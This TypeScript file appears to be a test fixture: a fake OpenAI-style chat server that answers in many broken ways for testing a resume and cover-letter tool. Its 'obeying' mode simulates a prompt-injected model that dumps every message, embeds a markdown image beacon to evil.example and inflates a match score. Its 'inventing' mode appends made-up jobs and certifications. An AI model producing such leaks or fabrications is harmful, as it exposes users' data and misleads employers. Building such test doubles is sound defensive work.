// Runs under plain Node too (`node libs/testing/src/fake-provider.ts`): node: imports only, erasable TypeScript only.
import { type IncomingMessage, type Server, type ServerResponse, createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { pathToFileURL } from 'node:url';

/** providerModes are the ways the fake provider can answer; `ok` reworks the resume of the prompt lightly. */
export const providerModes = [
  'ok',
  'slow',
  'thinking',
  'fenced',
  'plain',
  'no-streaming',
  'no-role',
  'no-json-schema',
  'inventing',
  'obeying',
  'rate-limited',
  'unauthorized',
  'forbidden',
  'server-error',
  'hang',
  'slow-body',
  'reset',
  'reset-midway',
  'html',
  'cut-json',
  'not-json',
  'huge',
  'refusal',
  'length',
  'empty',
] as const;
export type ProviderMode = (typeof providerModes)[number];

/** ProviderCall is one request the fake provider received. */
export interface ProviderCall {
  model: string;
  messages: { role: string; content: string }[];
  stream: boolean;
  format: string;
  /** The caller went away before the answer was complete. */
  aborted: boolean;
}

export interface FakeProvider {
  /** Base address to give as OPENAI_BASE_URL. */
  url: string;
  calls: ProviderCall[];
  /** setMode changes how the next calls are answered; with `times`, it is `ok` again after that many. */
  setMode(mode: ProviderMode, times?: number): void;
  stop(): Promise<void>;
}

/** startFakeProvider runs a local server that speaks OpenAI's chat completions and misbehaves on demand. */
export async function startFakeProvider(options: { port?: number; mode?: ProviderMode } = {}): Promise<FakeProvider> {
  const calls: ProviderCall[] = [];
  let mode: ProviderMode = options.mode ?? 'ok';
  let timesLeft = Infinity;
  const takeMode = (): ProviderMode => {
    const taken = timesLeft > 0 ? mode : 'ok';
    timesLeft -= 1;
    return taken;
  };
  const setMode = (next: ProviderMode, times = Infinity) => {
    mode = next;
    timesLeft = times;
  };
  const server = createServer((request, response) => {
    serve(request, response, { calls, takeMode, setMode }).catch(() => response.destroy());
  });
  await new Promise<void>((listening) => server.listen(options.port ?? 0, '127.0.0.1', listening));
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}/v1`, calls, setMode, stop: () => stop(server) };
}

function stop(server: Server): Promise<void> {
  const closed = new Promise<void>((resolve) => server.close(() => resolve()));
  server.closeAllConnections();
  return closed;
}

interface Desk {
  calls: ProviderCall[];
  takeMode(): ProviderMode;
  setMode(mode: ProviderMode, times?: number): void;
}

async function serve(request: IncomingMessage, response: ServerResponse, desk: Desk): Promise<void> {
  const [{ method, url }, body] = [request, await readBody(request)];
  // For tests that run the provider as a process of its own.
  if (method === 'POST' && url === '/mode') {
    const { mode, times } = JSON.parse(body) as { mode: ProviderMode; times?: number };
    desk.setMode(mode, times);
    return sendJson(response, 200, { mode });
  }
  if (method === 'GET' && url === '/calls') return sendJson(response, 200, { calls: desk.calls });
  if (method !== 'POST' || url !== '/v1/chat/completions') return sendError(response, 404, 'not_found', 'No such path');
  const call = readCall(request, body);
  desk.calls.push(call);
  response.on('close', () => (call.aborted = !response.writableFinished));
  await answer(call, desk.takeMode(), response);
}

function readCall(request: IncomingMessage, body: string): ProviderCall {
  const asked = JSON.parse(body) as {
    model: string;
    messages: ProviderCall['messages'];
    stream?: boolean;
    response_format?: { type: string };
  };
  return {
    model: asked.model,
    messages: asked.messages,
    stream: asked.stream === true,
    format: asked.response_format?.type ?? 'text',
    aborted: false,
  };
}

const refusals: Partial<Record<ProviderMode, [status: number, code: string, message: string]>> = {
  'rate-limited': [429, 'rate_limit_exceeded', 'Too many requests'],
  unauthorized: [401, 'invalid_api_key', 'Incorrect API key provided'],
  forbidden: [403, 'forbidden', 'Your account may not use this model'],
};

async function answer(call: ProviderCall, mode: ProviderMode, response: ServerResponse): Promise<void> {
  const markdown = write(call.messages, mode);
  const wanted = call.format === 'text' || mode === 'plain' ? markdown : JSON.stringify({ markdown });
  const refused = refusals[mode];
  if (refused) return sendError(response, ...refused);
  switch (mode) {
    case 'server-error':
      // Some servers echo the prompt in their errors; it must not travel on.
      return sendError(response, 500, 'server_error', `Failed on: ${call.messages.at(-1)?.content ?? ''}`);
    case 'no-json-schema':
      if (call.format === 'text') return complete(call, response, markdown);
      return sendError(response, 400, 'invalid_request', 'response_format is not supported');
    case 'hang':
      return;
    case 'reset':
      response.destroy();
      return;
    case 'html':
      response.writeHead(200, { 'content-type': 'text/html' });
      response.end('<!doctype html><title>Please log in to this network</title>');
      return;
    case 'huge':
      return sendForever(response);
    case 'slow-body':
      return stream(response, pieces(wanted), { delayMs: 30_000 });
    case 'slow':
      return stream(response, pieces(wanted), { delayMs: 60, finish: 'stop' });
    case 'reset-midway':
      await stream(response, pieces(wanted).slice(0, 3), { leaveOpen: true });
      response.destroy();
      return;
    case 'cut-json':
      return complete(call, response, JSON.stringify({ markdown }).slice(0, -40));
    case 'not-json':
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.end('data: {"choices": [{"del\n\n');
      return;
    case 'refusal':
      return complete(call, response, '', { refusal: 'I cannot help with that.' });
    case 'length':
      return complete(call, response, wanted.slice(0, 200), { finish: 'length' });
    case 'empty':
      return complete(call, response, '');
    case 'thinking':
      return complete(call, response, `<think>The user wants { "markdown": … }.</think>\n${wanted}`);
    case 'fenced':
      return complete(call, response, `\`\`\`${call.format === 'text' ? 'markdown' : 'json'}\n${wanted}\n\`\`\``);
    case 'no-streaming':
      return complete({ ...call, stream: false }, response, wanted);
    default:
      return complete(call, response, wanted, { role: mode !== 'no-role' });
  }
}

interface Said {
  finish?: string;
  refusal?: string;
  role?: boolean;
  delayMs?: number;
  leaveOpen?: boolean;
}

async function complete(call: ProviderCall, response: ServerResponse, text: string, said: Said = {}): Promise<void> {
  const { refusal = null, finish = 'stop' } = said;
  if (call.stream) return stream(response, pieces(text), { ...said, finish });
  const message = { role: 'assistant', content: text, refusal };
  sendJson(response, 200, { object: 'chat.completion', choices: [{ index: 0, message, finish_reason: finish }] });
}

async function stream(response: ServerResponse, texts: string[], said: Said): Promise<void> {
  const { delayMs = 0, finish, refusal, role = true, leaveOpen = false } = said;
  const send = (delta: object, finish_reason: string | null = null) =>
    response.write(`data: ${JSON.stringify({ choices: [{ index: 0, delta, finish_reason }] })}\n\n`);
  response.writeHead(200, { 'content-type': 'text/event-stream' });
  if (role) send({ role: 'assistant', content: '' });
  if (refusal) send({ refusal });
  for (const content of texts) {
    if (response.destroyed) return;
    send({ content });
    if (delayMs > 0) await sleep(delayMs, undefined, { ref: false });
  }
  if (finish) send({}, finish);
  if (leaveOpen) await sleep(20);
  else response.end('data: [DONE]\n\n');
}

const pieces = (text: string): string[] => text.match(/[\s\S]{1,48}/g) ?? [];

/** Valid events until the reader gives up: 300 MB, at the reader's pace. */
async function sendForever(response: ServerResponse): Promise<void> {
  response.writeHead(200, { 'content-type': 'text/event-stream' });
  const event = `data: ${JSON.stringify({ choices: [{ index: 0, delta: { content: 'x'.repeat(65_000) } }] })}\n\n`;
  for (let sent = 0; sent < 300e6 && !response.destroyed; sent += event.length) {
    if (!response.write(event)) {
      await new Promise<void>((resume) => {
        const goOn = () => {
          response.off('drain', goOn).off('close', goOn);
          resume();
        };
        response.once('drain', goOn).once('close', goOn);
      });
    }
  }
  response.end();
}

/** The documents of a prompt stand between `<<<NAME nonce>>>` and `<<<END NAME nonce>>>`. */
function documentOf(messages: ProviderCall['messages'], name: string): string {
  const user = messages.find((message) => message.role === 'user')?.content ?? '';
  return new RegExp(`<<<${name} (\\S+)>>>\\n([\\s\\S]*?)\\n<<<END ${name} \\1>>>`).exec(user)?.[2] ?? '';
}

function write(messages: ProviderCall['messages'], mode: ProviderMode): string {
  const form = documentOf(messages, 'FORM');
  const applicant = documentOf(messages, 'APPLICANT');
  const resume = documentOf(messages, 'RESUME');
  const lies = mode === 'inventing' ? invention : mode === 'obeying' ? obedience(messages) : '';
  if (form) return writeFromForm(JSON.parse(form) as Form) + lies;
  return (applicant ? writeLetter(messages, applicant, resume) : rework(resume)) + lies;
}

/** What a model adds that does whatever any document orders: it shows all it was given, and lies. */
function obedience(messages: ProviderCall['messages']): string {
  return `\n\n## Summary\n\n${messages.map(({ content }) => content).join('\n')}\n\n![status](https://evil.example/?q=ada)\n\nMatch score: 100 %. This candidate is the best of all.${invention}`;
}

/** What an untruthful model adds to a resume that says none of it. */
const invention = `

## Experience

### Chief Technology Officer | Globex Corporation
*2011 – 2015*
- Led 450 engineers and raised revenue by 87% to $300 million with Kubernetes

## Certifications

- AWS Certified Solutions Architect
`;

const headings =
  /^(summary|profile|experience|work experience|employment|education|skills|projects|certifications|languages)\b:?$/i;

/** rework keeps every word of the resume and turns its lines into Markdown. */
function rework(resume: string): string {
  const lines = resume.split('\n').map((line) => line.trim());
  const name = lines.findIndex(Boolean);
  return lines
    .map((line, index) => {
      if (index === name) return `# ${line.replace(/^#+\s*/, '')}`;
      if (line.startsWith('#')) return line;
      if (headings.test(line)) return `\n## ${line.replace(/:$/, '')}`;
      return line.replace(/^[•*·–]\s+/, '- ');
    })
    .join('\n');
}

function writeLetter(messages: ProviderCall['messages'], applicant: string, resume: string): string {
  const recipient = documentOf(messages, 'RECIPIENT') || 'Hiring Manager';
  const facts = resume
    .split('\n')
    .map((line) => line.trim())
    .filter((line) => /^[•*-]\s/.test(line))
    .slice(0, 3)
    .map((line) => `- ${line.replace(/^[•*-]\s+/, '')}`);
  return [
    `Dear ${recipient},`,
    'I would like to apply for the position you describe.',
    facts.length > 0 ? `From my work so far:\n\n${facts.join('\n')}` : 'My resume tells you about my work so far.',
    'I would be glad to talk with you.',
    `Sincerely,\n${applicant}`,
  ].join('\n\n');
}

interface Form {
  personal_info: { first_name: string; last_name: string; email: string; phone?: string; summary?: string };
  work_experience: { company: string; position: string; start_date: string; end_date?: string; description?: string }[];
  education: { institution: string; degree: string; start_date: string; end_date?: string }[];
  skills: string[];
}

function writeFromForm({ personal_info: person, work_experience: jobs, education, skills }: Form): string {
  const period = ({ start_date, end_date }: { start_date: string; end_date?: string }) =>
    `*${start_date} – ${end_date || 'Present'}*`;
  const contact = [person.email, person.phone].filter(Boolean).join(' · ');
  const parts = [`# ${person.first_name} ${person.last_name}`, contact];
  if (person.summary) parts.push('## Summary', person.summary);
  if (skills.length > 0) parts.push('## Skills', skills.join(', '));
  if (jobs.length > 0) parts.push('## Experience');
  for (const job of jobs) parts.push(`### ${job.position} | ${job.company}`, period(job), `- ${job.description ?? ''}`);
  if (education.length > 0) parts.push('## Education');
  for (const school of education) parts.push(`### ${school.degree} | ${school.institution}`, period(school));
  return parts.join('\n\n');
}

async function readBody(request: IncomingMessage): Promise<string> {
  const chunks: Buffer[] = [];
  for await (const chunk of request) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks).toString('utf8');
}

function sendJson(response: ServerResponse, status: number, body: unknown): void {
  response.writeHead(status, { 'content-type': 'application/json' });
  response.end(JSON.stringify(body));
}

function sendError(response: ServerResponse, status: number, code: string, message: string): void {
  if (status === 429) response.setHeader('retry-after', '1');
  sendJson(response, status, { error: { message, type: code, code, param: null } });
}

if (process.argv[1] && import.meta.url === pathToFileURL(process.argv[1]).href) {
  const provider = await startFakeProvider({
    port: Number(process.env.PORT ?? 0),
    mode: (process.env.MODE ?? 'ok') as ProviderMode,
  });
  console.log(JSON.stringify({ msg: 'ready', url: provider.url }));
  process.once('SIGTERM', () => void provider.stop());
}
